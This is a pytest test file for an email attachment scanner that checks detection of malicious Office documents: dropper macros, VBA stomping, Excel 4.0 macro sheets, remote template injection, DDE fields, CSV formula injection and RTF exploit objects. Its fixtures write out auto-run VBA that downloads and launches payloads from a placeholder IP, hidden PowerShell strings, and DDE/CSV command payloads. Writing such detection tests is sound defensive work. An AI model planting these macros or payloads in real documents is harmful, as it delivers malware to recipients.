"""Deep Office analysis: macros (and when they are droppers), Excel 4.0 sheets, VBA stomping,
template injection, DDE, RTF objects, encrypted documents; the isolated worker and its cache;
real corpora (benign macro workbooks must never be called malicious)."""

from __future__ import annotations

import dataclasses
import io
import os
import time
import zipfile
from pathlib import Path

import pytest
from cases import with_attachment
from cases_office import (
    BUSINESS_AUTORUN,
    PASSWORD,
    business_xlsm,
    encrypted_docm,
    password_mail,
    stomped_docm,
)
from conftest import corpus_dir, eml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailcheck import containers
from mailcheck.analyzers import office
from mailcheck.analyzers.office import csv_dde, oletools_adapter, vba_traits
from mailcheck.analyzers.office.inspection import OfficeReport
from mailcheck.api import scan_bytes, scan_path
from mailcheck.containers import office_crypto
from mailcheck.containers.interface import OpenRequest
from mailcheck.engine import Engine
from mailcheck.limits import DEFAULT, Budget, Limits
from mailcheck.model import Finding, ScanResult
from testkit.office import (
    DROPPER_MACRO,
    FORMATTING_MACRO,
    build_dde_docx,
    build_docm,
    build_docx,
    build_flat_opc,
    build_rtf,
    build_template_docx,
    build_vba_project,
    build_xls_xlm,
    build_xlsm,
    build_xlsm_macrosheet,
    equation_ole,
    ole1_object,
    ole_package,
    stomp_vba,
)

OCTET = "application/octet-stream"
OFFICE_IDS_HIGH = {
    "attachment.macro.autoexec_exec",
    "attachment.vba_stomping",
    "attachment.xlm_macro",
    "attachment.template_injection",
    "attachment.template_injection.file_share",
    "attachment.dde",
    "attachment.dde.command",
    "attachment.rtf_object",
    "attachment.rtf_object.exploit",
}


def scan(data: bytes, filename: str, limits: Limits = DEFAULT, **kwargs: object) -> ScanResult:
    return scan_bytes(with_attachment(data, filename, OCTET), limits=limits, **kwargs)  # type: ignore[arg-type]


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def macro_docm(code: str, text: str = "Invoice") -> bytes:
    return build_docm(build_vba_project(document_code=code), text=text)


# --- VBA: MacroRaptor, and when auto-run + write/execute is a dropper ------------------------


def test_dropper_macro_is_critical_with_its_traits_as_evidence() -> None:
    result = scan(macro_docm(DROPPER_MACRO), "invoice.docm")
    hit = finding(result, "attachment.macro.autoexec_exec")
    assert hit.evidence[0].location == "attachment 2/invoice.docm"
    assert hit.facts()["autoexec"] == "Document_Open"
    assert "lolbin: powershell" in hit.facts()["traits"]
    assert "downloader" in hit.facts()["traits"]
    assert result.verdict.label == "malicious"


def test_business_autorun_without_dropper_traits_is_demoted_not_malicious() -> None:
    result = scan(business_xlsm(), "report.xlsm")
    assert "attachment.macro.autoexec_exec" not in ids(result)
    hit = finding(result, "attachment.macro.autoexec")
    assert hit.severity == "medium"
    assert hit.facts()["autoexec"] == "Workbook_Open"
    # Auto-run that can start programs, and nothing else: ask the sender, do not panic.
    assert result.verdict.label == "suspicious"
    assert "cmd.exe /C python" in BUSINESS_AUTORUN  # xlwings-style launch is not a trait


def test_formatting_autorun_is_only_low_evidence() -> None:
    result = scan(
        build_xlsm(build_vba_project(host="excel", document_code=FORMATTING_MACRO)), "r.xlsm"
    )
    assert ids(result) & {"attachment.macro.autoexec", "attachment.macro.autoexec_exec"} == set()
    assert result.verdict.label == "clean"


@pytest.mark.parametrize(
    ("code", "trait"),
    [
        (
            'Sub AutoOpen()\n  Set p = GetObject("winmgmts:").Get("Win32_Process")\n'
            '  p.Create "calc", Null, Null, pid\nEnd Sub\n',
            "wmi_process",
        ),
        (
            "Sub Document_Open()\n  x = Chr(99) & Chr(109) & Chr(100) & Chr(32) & Chr(47) & "
            "Chr(99) & Chr(32) & Chr(99) & Chr(97)\n  Shell x\nEnd Sub\n",
            "obfuscation",
        ),
        (
            'Sub Document_Open()\n  Shell "msh" & "ta http://203.0.113.9/a.hta"\nEnd Sub\n',
            "lolbin",
        ),
        (
            'Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long, '
            "ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\n"
            "Sub AutoOpen()\n"
            '  URLDownloadToFileA 0, "http://203.0.113.9/x", "C:\\Users\\Public\\x.dll", 0, 0\n'
            "End Sub\n",
            "downloader",
        ),
        (
            'Sub Document_Open()\n  Set s = CreateObject("ADODB.Stream")\n'
            '  s.SaveToFile Environ("TEMP") & "\\update.exe", 2\nEnd Sub\n',
            "exe_drop",
        ),
    ],
)
def test_each_dropper_trait_makes_autorun_critical(code: str, trait: str) -> None:
    result = scan(macro_docm(code, text=trait), f"{trait}.docm")
    assert trait in finding(result, "attachment.macro.autoexec_exec").facts()["traits"]


def test_traits_without_autorun_stay_low() -> None:
    code = 'Sub Button1_Run()\n  Shell "powershell -c calc"\nEnd Sub\n'
    result = scan(macro_docm(code, text="button"), "tool.docm")
    assert "lolbin" in finding(result, "attachment.macro").facts()["traits"]
    assert result.verdict.label == "clean"


@pytest.mark.parametrize(
    "code",
    [
        # VBA-Web style HTTP client: WinHttp, but nothing saved to disk.
        (
            'Set http = CreateObject("WinHttp.WinHttpRequest.5.1")\n'
            'http.Open "GET", url\nx = http.ResponseText\n'
        ),
        # xlwings style launch through cmd.
        'ExitCode = WScript.Run("cmd.exe /C " & RunCommand, 0, True)\n',
        # WMI query that is not process creation.
        'Set o = GetObject("winmgmts:").ExecQuery("select * from Win32_PingStatus")\n',
        # A few Chr() calls and a base64 alphabet.
        (
            "x = Chr(34) & Chr(34) & Chr(13) & Chr(10)\n"
            'b = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ+/"\n'
        ),
        # Mac paths through AppleScript.
        'r = MacScript("return POSIX path of (path to desktop) as string")\n',
    ],
)
def test_business_code_has_no_dropper_traits(code: str) -> None:
    assert vba_traits.dropper_traits(code) == ()


def test_split_strings_are_joined_before_matching() -> None:
    traits = vba_traits.dropper_traits('x = "pow" & "er" + "shell -nop"\n')
    assert [t.kind for t in traits] == ["lolbin"]


# --- VBA stomping -------------------------------------------------------------------------------


def test_stomped_project_is_reported_with_the_hidden_strings() -> None:
    result = scan(stomped_docm(), "invoice.docm")
    stomping = finding(result, "attachment.vba_stomping")
    assert stomping.severity == "high"
    assert '"powershell -w hidden -enc SQBFAFgA"' in stomping.facts()["names"]
    # The visible source only formats text; the p-code that runs starts PowerShell.
    hidden = finding(result, "attachment.macro.autoexec_exec")
    assert hidden.facts()["actions"].startswith("p-code:")
    assert result.verdict.label == "malicious"


def test_pcode_that_matches_its_source_is_not_stomping() -> None:
    disassembly = 'Line #0:\n\tLd Range\n\tArgsCall (Call) MsgBox 0x0001\n\tLitStr 0x0002 "hi"\n'
    source = 'Sub A()\n  MsgBox "hi"\n  Set r = [Range]\nEnd Sub\n'
    assert vba_traits.stomped_names(disassembly, source) == ()


def test_type_suffixes_and_brackets_are_not_stomping() -> None:
    # olevba 0.60 flags these in xlwings.xlam and VBA-Web's example workbook.
    disassembly = "\tLd RightSide$\n\tArgsCall (Call) [DownloadAnalytics] 0x0000\n\tLd Other\n"
    source = "Function J(RightSide As String)\n DownloadAnalytics\n Other = 1\nEnd Function\n"
    assert vba_traits.stomped_names(disassembly, source) == ()


def test_a_single_implicit_member_is_not_stomping() -> None:
    # A benign PowerPoint: `slides(1)` compiles to a call of the default member Item.
    disassembly = '\tLd slides\n\tArgsLd Item 0x0001\n\tLitStr 0x0002 "ok"\n'
    source = 'Sub A()\n  Set s = slides(1)\n  MsgBox "ok"\nEnd Sub\n'
    assert vba_traits.stomped_names(disassembly, source) == ()
    # One ordinary name alone is a parser quirk, not a replaced module.
    assert vba_traits.stomped_names("\tLd Other\n\tLd slides\n", "slides") == ()


def test_a_hidden_string_literal_is_stomping_even_alone() -> None:
    disassembly = '\tLd Shell\n\tLitStr 0x0010 "powershell -enc AA"\n'
    source = 'Sub A()\n  Shell "notepad"\nEnd Sub\n'
    assert vba_traits.stomped_names(disassembly, source) == ('"powershell -enc AA"',)


def test_stomping_of_an_office_saved_project() -> None:
    """Real p-code (saved by Excel, from the corpus) with one module's source replaced."""
    root = corpus_dir("office", "benign_macro_office")
    original = (root / "xlwings" / "xlwings" / "quickstart.xlsm").read_bytes()
    stomped = stomp_vba(
        original, "Module1", 'Sub SampleCall()\r\n    MsgBox "Hello"\r\nEnd Sub\r\n'
    )
    assert "attachment.vba_stomping" not in ids(scan(original, "quickstart.xlsm"))
    hit = finding(scan(stomped, "quickstart.xlsm"), "attachment.vba_stomping")
    assert "RunPython" in hit.evidence[0].excerpt  # the p-code still calls it


def test_office_inspection_never_writes_the_document_to_disk(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A worker killed at its timeout (or with the scan) runs no cleanup: a copy of the
    # attachment on disk would be left behind. The p-code check reads olevba's parsed project.
    writes: list[str] = []
    real_open, real_os_open = open, os.open

    def guarded_open(file: object, mode: str = "r", *args: object, **kwargs: object) -> object:
        if any(flag in mode for flag in "wax+"):
            writes.append(str(file))
        return real_open(file, mode, *args, **kwargs)  # type: ignore[call-overload]

    def guarded_os_open(path: str, flags: int, *args: int, **kwargs: int) -> int:
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            writes.append(path)
        return real_os_open(path, flags, *args, **kwargs)

    document = stomped_docm()  # the fixture builder writes files of its own
    monkeypatch.setattr("builtins.open", guarded_open)
    monkeypatch.setattr(os, "open", guarded_os_open)
    report = oletools_adapter.inspect_office(document, "docm", office.options_for(DEFAULT))
    assert report.vba is not None and report.vba.stomped
    assert report.errors == ()
    assert writes == []


# --- Excel 4.0 macro sheets --------------------------------------------------------------------


@pytest.mark.parametrize("excel_clsid", [True, False])
def test_xls_macro_sheet_with_auto_open_and_exec(excel_clsid: bool) -> None:
    xls = build_xls_xlm([("EXEC", ("regsvr32 -s a.ocx",)), ("HALT", ())], excel_clsid=excel_clsid)
    result = scan(xls, "invoice.xls")
    hit = finding(result, "attachment.xlm_macro")
    assert hit.facts()["trigger"] == "Auto_Open"
    assert hit.facts()["functions"] == "EXEC"
    assert hit.facts()["format"] == "biff"
    assert "hidden" in hit.facts()["sheets"]
    assert result.verdict.label == "malicious"


def test_xls_call_to_urlmon_without_auto_open_is_critical() -> None:
    xls = build_xls_xlm(
        [("CALL", ("urlmon", "URLDownloadToFileA", "JJCCJJ"))], auto_open=False, hidden=0
    )
    hit = finding(scan(xls, "invoice.xls"), "attachment.xlm_macro")
    assert hit.facts()["trigger"] == "-"
    assert {"CALL", "URLDOWNLOADTOFILEA"} <= set(hit.facts()["functions"].split(", "))


def test_xls_macro_sheet_without_trigger_or_calls_is_medium() -> None:
    xls = build_xls_xlm([("HALT", ())], auto_open=False, hidden=0)
    result = scan(xls, "old.xls")
    assert "attachment.xlm_macrosheet" in ids(result)
    assert "attachment.xlm_macro" not in ids(result)


@pytest.mark.parametrize(
    "name",
    ["_xlnm.Auto_Open", "Auto_Open", "auto_open2", "Auto_Ouvrir", "Auto_Abrir", "_xlnm.Auto_Close"],
)
def test_ooxml_macro_sheet_triggers(name: str) -> None:
    workbook = build_xlsm_macrosheet(
        {"A1": "ALERT(1)", "A2": "HALT()"}, defined_names={name: "Macro1!$A$1"}
    )
    hit = finding(scan(workbook, "book.xlsm"), "attachment.xlm_macro")
    assert hit.facts()["trigger"] == name
    assert hit.facts()["sheets"] == "Macro1 (veryHidden)"
    assert hit.facts()["format"] == "ooxml"


def test_ooxml_macro_sheet_exec_is_found_even_though_olevba_misses_it() -> None:
    workbook = build_xlsm_macrosheet({"A1": 'EXEC("cmd /c calc")', "A2": "HALT()"})
    hit = finding(scan(workbook, "book.xlsm"), "attachment.xlm_macro")
    assert hit.facts()["functions"] == "EXEC"
    assert hit.evidence[0].excerpt == 'EXEC("cmd /c calc")'


def test_xlsb_macro_sheet_presence_is_reported() -> None:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.bin", "\x00".join("Auto_Open").encode() + b"\x00")
        archive.writestr("xl/macrosheets/sheet1.bin", b"\x00\x01\x02")
    hit = finding(scan(buffer.getvalue(), "book.xlsb"), "attachment.xlm_macro")
    assert hit.facts()["format"] == "xlsb"
    assert hit.facts()["trigger"] == "Auto_Open"


# --- template injection and other external targets -----------------------------------------


@pytest.mark.parametrize(
    ("target", "finding_id"),
    [
        ("http://203.0.113.5/t.dotm", "attachment.template_injection"),
        ("https://cdn.example.net/invoice", "attachment.template_injection"),
        ("\\\\203.0.113.5@SSL\\share\\t.dotm", "attachment.template_injection"),
        ("\\\\files.example.net\\DavWWWRoot\\t.dotx", "attachment.template_injection"),
        ("\\\\fileserver\\templates\\letter.dotx", "attachment.template_injection.file_share"),
        ("file://203.0.113.5/share/t.dotm", "attachment.template_injection"),
        (
            "file:///C:/Users/taro/AppData/Roaming/Microsoft/Templates/Normal.dotm",
            "attachment.template_injection.file_share",
        ),
    ],
)
def test_external_template(target: str, finding_id: str) -> None:
    result = scan(build_template_docx(target), "order.docx")
    hit = finding(result, finding_id)
    assert hit.evidence[0].location == "attachment 2/order.docx: word/_rels/settings.xml.rels"
    assert hit.facts()["relation"] == "attachedTemplate"
    assert hit.facts()["target"] == target


def test_follina_style_ole_object_is_critical() -> None:
    rels = [
        (
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject",
            "mhtml:http://203.0.113.5/index.html!x-usc:http://203.0.113.5/index.html",
            True,
        )
    ]
    result = scan(build_docx(document_rels=rels), "doc.docx")
    hit = finding(result, "attachment.template_injection")
    assert hit.facts()["relation"] == "oleObject"
    assert hit.evidence[0].location.endswith("word/_rels/document.xml.rels")


def test_hyperlinks_and_internal_templates_are_not_findings() -> None:
    hyperlink = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    template = (
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    )
    docx = build_docx(
        document_rels=[(hyperlink, "https://www.example.com/", True)],
        settings_rels=[(template, "Normal.dotm", False)],
    )
    result = scan(docx, "letter.docx")
    assert not ids(result) & OFFICE_IDS_HIGH
    assert result.verdict.label == "clean"


def test_rtf_remote_template() -> None:
    result = scan(build_rtf(template="http://203.0.113.5/x.dotm"), "letter.rtf")
    hit = finding(result, "attachment.template_injection")
    assert hit.facts()["relation"] == "template"


def test_rtf_template_on_a_file_share() -> None:
    # RTF doubles backslashes: {\*\template \\\\fileserver\\t\\letter.dotx}
    rtf = build_rtf(template="\\\\\\\\fileserver\\\\t\\\\letter.dotx")
    hit = finding(scan(rtf, "letter.rtf"), "attachment.template_injection.file_share")
    assert hit.facts()["target"] == "\\\\fileserver\\t\\letter.dotx"


# --- DDE -------------------------------------------------------------------------------------


@pytest.mark.parametrize("simple", [False, True])
def test_dde_field_running_cmd_is_critical(simple: bool) -> None:
    docx = build_dde_docx(
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', simple=simple
    )
    hit = finding(scan(docx, "notice.docx"), "attachment.dde.command")
    assert hit.facts()["command"].startswith("DDEAUTO")


def test_xlsx_dde_link() -> None:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        )
    hit = finding(scan(buffer.getvalue(), "sales.xlsx"), "attachment.dde.command")
    assert hit.facts()["command"] == "cmd /c calc"


def test_other_fields_are_not_dde() -> None:
    docx = build_dde_docx('HYPERLINK "https://www.example.com/"')
    assert not ids(scan(docx, "links.docx")) & {"attachment.dde", "attachment.dde.command"}


def test_rtf_dde_field() -> None:
    rtf = (
        b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO "C:\\\\Programs\\\\cmd.exe" "/c calc"}'
        b"{\\fldrslt x}}}"
    )
    assert "attachment.dde.command" in ids(scan(rtf, "a.rtf"))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"name,total\r\nx,=cmd|' /C calc'!A0\r\n", "attachment.dde.command"),
        (
            b"a;b\r\n=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s x.dll'!''\r\n",
            "attachment.dde.command",
        ),
        (b"a,b\r\n=Server|'topic'!A1\r\n", "attachment.dde"),
    ],
)
def test_csv_dde(content: bytes, expected: str) -> None:
    result = scan_bytes(with_attachment(content, "data.csv", "text/csv"))
    hit = finding(result, expected)
    assert hit.evidence[0].location == "attachment 2/data.csv"


def test_ordinary_csv_and_formulas_are_not_dde() -> None:
    content = b'"A","B"\r\n1,=SUM(A1:A3)\r\n"x|y",2\r\n'
    result = scan_bytes(with_attachment(content, "good.csv", "text/csv"))
    assert not ids(result) & {"attachment.dde", "attachment.dde.command"}
    # The same bytes under a name that is not CSV are not looked at.
    assert csv_dde.dde_cells("=cmd|' /C calc'!A0") and not csv_dde.looks_like_csv("a.txt", "")


# --- RTF objects --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("obj", "finding_id", "exploit"),
    [
        (
            ole1_object("Equation.3", equation_ole()),
            "attachment.rtf_object.exploit",
            "CVE-2017-11882",
        ),
        (
            ole1_object("Package", ole_package("invoice.exe", b"MZ" + bytes(64))),
            "attachment.rtf_object.exploit",
            "executable",
        ),
        (ole1_object("OLE2Link", b"\x00" * 16), "attachment.rtf_object.exploit", "CVE-2017-0199"),
        (ole1_object("Package", ole_package("notes.txt", b"hello")), "attachment.rtf_object", "-"),
    ],
)
def test_rtf_objects(obj: bytes, finding_id: str, exploit: str) -> None:
    result = scan(build_rtf((obj,)), "scan.doc")
    hit = finding(result, finding_id)
    assert hit.facts()["exploit"].startswith(exploit) or exploit in hit.facts()["exploit"]


def test_rtf_is_never_read_as_vba_source() -> None:
    rtf = build_rtf(text='Sub AutoOpen() Shell "cmd /c calc" End Sub')
    result = scan(rtf, "letter.rtf")
    assert not ids(result) & {"attachment.macro", "attachment.macro.autoexec_exec"}


def test_flat_opc_word_xml_macros_are_read() -> None:
    xml = build_flat_opc(build_vba_project(document_code=DROPPER_MACRO))
    result = scan(xml, "invoice.xml")
    assert "attachment.macro.autoexec_exec" in ids(result)


def test_plain_xml_is_not_given_to_olevba() -> None:
    xml = b'<?xml version="1.0"?>\n<note>Sub AutoOpen()\nShell "powershell -c x"\nEnd Sub</note>\n'
    assert not ids(scan(xml, "note.xml")) & {"attachment.macro", "analyzer.error"}


# --- encrypted documents -----------------------------------------------------------------------


def open_office(data: bytes, kind: str, passwords: tuple[str, ...] = (), **limits: int) -> object:
    request = OpenRequest(
        data=data,
        kind=kind,
        path="2/invoice.docm",
        passwords=passwords,
        budget=Budget(Limits(**limits)),
        depth=0,
    )
    return office_crypto.open_encrypted_office(request)


def test_password_from_the_body_opens_the_document() -> None:
    opened = open_office(encrypted_docm("Seikyu#2024"), "ole-encrypted-ooxml", ("x", "Seikyu#2024"))
    assert opened.status == "ok"  # type: ignore[attr-defined]
    (member,) = opened.members  # type: ignore[attr-defined]
    assert member.name == "decrypted.docm" and member.data.startswith(b"PK")
    (hit,) = opened.hits  # type: ignore[attr-defined]
    assert hit.id == "attachment.office_password_in_body"
    assert hit.evidence[0].fact("password") == "Seikyu#2024"
    assert hit.evidence[0].location == "attachment 2/invoice.docm"


def test_velvet_sweatshop_is_tried_without_any_candidate() -> None:
    opened = open_office(encrypted_docm("VelvetSweatshop"), "ole-encrypted-ooxml")
    assert [h.id for h in opened.hits] == ["attachment.office_default_password"]  # type: ignore[attr-defined]


def test_no_fitting_password_is_encrypted_and_bounded() -> None:
    data = encrypted_docm("unknown")
    many = tuple(f"guess{i}" for i in range(50))
    opened = open_office(data, "ole-encrypted-ooxml", many, max_password_tries=3)
    assert opened.status == "encrypted"  # type: ignore[attr-defined]
    (hit,) = opened.hits  # type: ignore[attr-defined]
    assert hit.id == "attachment.encrypted_office" and hit.evidence[0].fact("tried") == "3"


def test_key_derivation_work_is_bounded() -> None:
    # ECMA-376 agile files choose their own iteration count (up to 10 million per try).
    started = time.monotonic()
    opened = open_office(
        encrypted_docm("unknown"),
        "ole-encrypted-ooxml",
        ("a", "b", "c", "d"),
        max_key_iterations=250_000,
    )
    assert opened.hits[0].evidence[0].fact("tried") == "2"  # type: ignore[attr-defined]
    assert time.monotonic() - started < 10


def test_unencrypted_legacy_documents_pass_through_cheaply() -> None:
    opened = open_office(build_xls_xlm([("HALT", ())]), "xls")
    assert opened.status == "ok" and opened.members == () and opened.hits == ()  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "data", [b"", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), b"PK\x03\x04junk"]
)
def test_damaged_input_never_raises(data: bytes) -> None:
    assert open_office(data, "ole-encrypted-ooxml").status == "broken"  # type: ignore[attr-defined]
    assert open_office(data, "doc").status == "ok"  # type: ignore[attr-defined]


def test_decrypted_document_is_analysed_like_an_attachment(monkeypatch: pytest.MonkeyPatch) -> None:
    for kind in office_crypto.KINDS:
        monkeypatch.setitem(containers.OPENERS, kind, office_crypto.open_encrypted_office)
    result = scan_bytes(password_mail())
    assert finding(result, "attachment.office_password_in_body").facts()["password"] == PASSWORD
    inner = finding(result, "attachment.macro.autoexec_exec")
    assert inner.evidence[0].location == "attachment 2/seikyusho.docm/decrypted.docm"
    assert result.verdict.label == "malicious"
    (child,) = result.attachments[1].children
    assert child.filename == "decrypted.docm"


def test_unopened_encrypted_document_marks_the_result_incomplete(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for kind in office_crypto.KINDS:
        monkeypatch.setitem(containers.OPENERS, kind, office_crypto.open_encrypted_office)
    result = scan(encrypted_docm("sent separately"), "keiyaku.docx")
    assert "attachment.encrypted_office" in ids(result)
    assert result.attachments[1].status == "encrypted"
    assert result.verdict.incomplete and result.verdict.label == "clean"


# --- the isolated worker, its timeout and the cache ------------------------------------------


def slow_inspect(*_args: object) -> OfficeReport:
    time.sleep(3600)
    return OfficeReport()


def dying_inspect(*_args: object) -> OfficeReport:
    os._exit(3)


def test_hang_is_killed_at_the_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "inspect", slow_inspect)
    with Engine() as engine:
        limits = Limits(analyzer_timeout=2.0)
        engine.worker.call(vba_traits.dropper_traits, "", timeout=60)  # started: not the test
        started = time.monotonic()
        result = scan(
            macro_docm("Sub A()\nEnd Sub\n", text="hang"), "a.docm", limits, engine=engine
        )
        assert time.monotonic() - started < 30  # generous guard against a real hang
    hit = finding(result, "analyzer.timeout")
    assert hit.facts() == {"analyzer": "office", "location": "attachment 2/a.docm", "timeout": "2"}
    assert result.verdict.incomplete


def test_dead_worker_is_an_analyzer_error_and_the_next_call_works(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with Engine() as engine:
        monkeypatch.setattr(office, "inspect", dying_inspect)
        result = scan(macro_docm(DROPPER_MACRO, text="die"), "a.docm", engine=engine)
        hit = finding(result, "analyzer.error")
        assert hit.facts()["analyzer"] == "office" and "died" in hit.facts()["error"]
        monkeypatch.undo()
        again = scan(macro_docm(DROPPER_MACRO, text="die"), "a.docm", engine=engine)
        assert "attachment.macro.autoexec_exec" in ids(again)


def test_olevba_failure_on_a_damaged_file_is_an_analyzer_error() -> None:
    result = scan(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "old.doc")
    hit = finding(result, "analyzer.error")
    assert hit.facts()["analyzer"] == "office (olevba)"
    assert result.verdict.incomplete


@pytest.mark.parametrize(("cache", "calls"), [(True, 1), (False, 2)])
def test_same_attachment_is_analysed_once_per_process(
    monkeypatch: pytest.MonkeyPatch, cache: bool, calls: int
) -> None:
    with Engine(cache=cache) as engine:
        seen: list[int] = []
        real = engine.worker.call

        def counting(func: object, *args: object, timeout: float) -> object:
            seen.append(1)
            return real(func, *args, timeout=timeout)  # type: ignore[arg-type]

        monkeypatch.setattr(engine.worker, "call", counting)
        data = macro_docm(DROPPER_MACRO, text="cache")
        first = scan(data, "a.docm", engine=engine)
        second = scan_bytes(
            with_attachment(data, "b.docm", OCTET, "From: other@example.net"), engine=engine
        )
    assert len(seen) == calls
    assert ids(first) == ids(second) and "attachment.macro.autoexec_exec" in ids(second)


def test_cached_report_is_not_reused_under_other_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    with Engine() as engine:
        seen: list[int] = []
        real = engine.worker.call

        def counting(func: object, *args: object, timeout: float) -> object:
            seen.append(1)
            return real(func, *args, timeout=timeout)  # type: ignore[arg-type]

        monkeypatch.setattr(engine.worker, "call", counting)
        data = macro_docm(DROPPER_MACRO, text="bounds")
        scan(data, "a.docm", engine=engine)
        scan(
            data,
            "a.docm",
            limits=dataclasses.replace(DEFAULT, max_member_bytes=1 << 20),
            engine=engine,
        )
    assert len(seen) == 2


# --- hostile input: never raises, always a report --------------------------------------------

_OPTIONS = office.options_for(DEFAULT)
_SEEDS = {
    "docm": macro_docm(DROPPER_MACRO),
    "xlsx": build_xlsm_macrosheet({"A1": 'EXEC("x")'}, defined_names={"Auto_Open": "Macro1!A1"}),
    "docx": build_template_docx("http://203.0.113.5/t"),
    "xls": build_xls_xlm([("EXEC", ("x",))]),
    "rtf": build_rtf((ole1_object("Equation.3", equation_ole()),)),
}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    kind=st.sampled_from(sorted(_SEEDS)),
    flips=st.lists(st.tuples(st.integers(0, 1 << 20), st.integers(0, 255)), max_size=8),
    cut=st.integers(0, 1 << 20),
)
def test_mutated_documents_never_raise(kind: str, flips: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(_SEEDS[kind])
    for at, value in flips:
        data[at % len(data)] = value
    report = oletools_adapter.inspect_office(
        bytes(data[: max(1, cut % (len(data) + 1))]), kind, _OPTIONS
    )
    assert isinstance(report, OfficeReport)


@settings(max_examples=40, deadline=None)
@given(data=st.binary(max_size=2048), kind=st.sampled_from(sorted(office.KINDS)))
def test_random_bytes_never_raise(data: bytes, kind: str) -> None:
    assert isinstance(oletools_adapter.inspect_office(data, kind, _OPTIONS), OfficeReport)


@settings(max_examples=60, deadline=None)
@given(text=st.text(max_size=2000))
def test_csv_check_never_raises(text: str) -> None:
    assert len(csv_dde.dde_cells(text)) <= 12


# --- real material ---------------------------------------------------------------------------


def _corpus_files(root: Path) -> list[Path]:
    return sorted(
        p for p in root.rglob("*") if p.is_file() and p.suffix.lower().startswith((".xl", ".do"))
    )


def test_benign_macro_workbooks_are_never_malicious() -> None:
    root = corpus_dir("office", "benign_macro_office")
    files = _corpus_files(root)
    assert len(files) == 26
    macros = 0
    for path in files:
        result = scan(path.read_bytes(), path.name)
        office_ids = ids(result) & (
            OFFICE_IDS_HIGH | {"attachment.macro.autoexec", "analyzer.error"}
        )
        assert result.verdict.label != "malicious", path
        assert office_ids == set(), (path, office_ids)
        macros += "attachment.macro" in ids(result)
    assert macros == 22  # every workbook with a VBA project is still reported as such


@pytest.mark.parametrize(
    ("name", "expected", "absent"),
    [
        ("macro.eml", {"attachment.macro"}, {"attachment.macro.autoexec_exec"}),
        ("malicemacro.eml", {"attachment.macro"}, {"attachment.macro.autoexec_exec"}),
        ("renamedmacro.eml", {"attachment.macro", "attachment.type_mismatch"}, set()),
        ("target_uri.eml", set(), OFFICE_IDS_HIGH | {"attachment.macro"}),
        ("nomacro.eml", set(), OFFICE_IDS_HIGH | {"attachment.macro"}),
        ("goodcsv.eml", set(), OFFICE_IDS_HIGH | {"attachment.macro"}),
    ],
)
def test_spamassassin_macro_mail(name: str, expected: set[str], absent: set[str]) -> None:
    (result,) = scan_path(corpus_dir("macro-mail", "spamassassin") / name)
    assert isinstance(result, ScanResult)
    assert expected <= ids(result)
    assert not ids(result) & absent
    assert not ids(result) & {"analyzer.error", "analyzer.timeout"}


def test_spamassassin_malice_macro_names_its_autoexec() -> None:
    (result,) = scan_path(corpus_dir("macro-mail", "spamassassin") / "malicemacro.eml")
    assert isinstance(result, ScanResult)
    assert "Workbook_Open" in finding(result, "attachment.macro").facts()["autoexec"]


def test_spamassassin_encrypted_word_opens_with_the_password_in_the_body(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for kind in office_crypto.KINDS:
        monkeypatch.setitem(containers.OPENERS, kind, office_crypto.open_encrypted_office)
    (result,) = scan_path(corpus_dir("macro-mail", "spamassassin") / "encrypted.eml")
    assert isinstance(result, ScanResult)
    # "Doc password is password": found when the body's password is harvested.
    found = ids(result) & {"attachment.office_password_in_body", "attachment.encrypted_office"}
    assert found
    if "attachment.office_password_in_body" in found:
        assert result.attachments[-1].children[0].filename == "decrypted.docx"


def test_strelka_office_fixtures_parse_without_errors() -> None:
    root = corpus_dir("office", "strelka_fixtures")
    files = [
        p
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.suffix.lower() in (".doc", ".docx", ".xls", ".rtf", ".vba", ".xml")
    ]
    assert len(files) >= 12
    found: dict[str, set[str]] = {}
    for path in files:
        result = scan(path.read_bytes(), path.name)
        assert not {f.id for f in result.findings if f.analyzer == "office"} & {
            "analyzer.error",
            "analyzer.timeout",
        }, path
        found[path.name] = ids(result)
    # test.xls hides an Excel 4.0 sheet that runs on opening (Auto_Open), next to VBA.
    assert {"attachment.xlm_macro", "attachment.macro"} <= found["test.xls"]


def test_message_without_attachments_never_reaches_the_worker() -> None:
    with Engine() as engine:
        scan_bytes(eml("From: a@example.com", body="Sub AutoOpen()\r\n"), engine=engine)
        assert engine.worker._process is None


